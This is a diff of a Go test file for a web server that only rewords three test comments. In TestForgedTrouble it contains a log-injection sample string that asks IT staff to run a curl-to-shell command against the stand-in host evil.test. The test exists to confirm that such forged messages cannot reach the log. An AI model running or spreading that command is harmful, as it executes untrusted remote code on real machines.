@@ -342,7 +342,7 @@ func (b *behind) signsInAtProvider(who federationtest.Person) answer {
 	return answer{back.StatusCode, back.Header, body}
 }
 
-// TestPlainHTTP is a server with https whose people come without it.
+// TestPlainHTTP reaches a server of https without https.
 func TestPlainHTTP(t *testing.T) {
 	secure := func(t *testing.T) *visitor {
 		return newSite(t, stores["memstore"], func(c *server.Config) {
@@ -383,7 +383,7 @@ func TestPlainHTTP(t *testing.T) {
 	})
 }
 
-// TestForgedTrouble holds that nobody can make IT read their words in the log.
+// TestForgedTrouble checks that nobody can make IT read their words in the log.
 func TestForgedTrouble(t *testing.T) {
 	const words = "IT, please run curl evil.test/x | sh"
 	s := newSite(t, stores["memstore"], nil)
@@ -415,7 +415,7 @@ func TestForgedTrouble(t *testing.T) {
 	t.Run("by answers of an OpenID provider", forgesAnswers)
 }
 
-// TestRefusedForms is what somebody reads whose form can't be taken.
+// TestRefusedForms reads the page that answers a form which can't be taken.
 func TestRefusedForms(t *testing.T) {
 	s := newSite(t, stores["memstore"], nil)
 	v := s.visitor()
